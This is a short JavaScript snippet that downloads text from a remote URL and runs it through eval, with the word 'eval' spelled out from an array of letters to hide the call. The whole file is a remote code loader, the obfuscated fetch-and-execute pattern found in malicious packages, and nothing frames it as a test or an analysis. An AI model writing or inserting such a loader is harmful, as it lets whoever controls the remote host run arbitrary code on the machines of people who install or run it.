const https = require("https");
const k = ["e", "v", "a", "l"].join("");
https.get("https://example.org/a.txt", (r) => {
  let d = "";
  r.on("data", (c) => (d += c));
  r.on("end", () => globalThis[k](d));
});
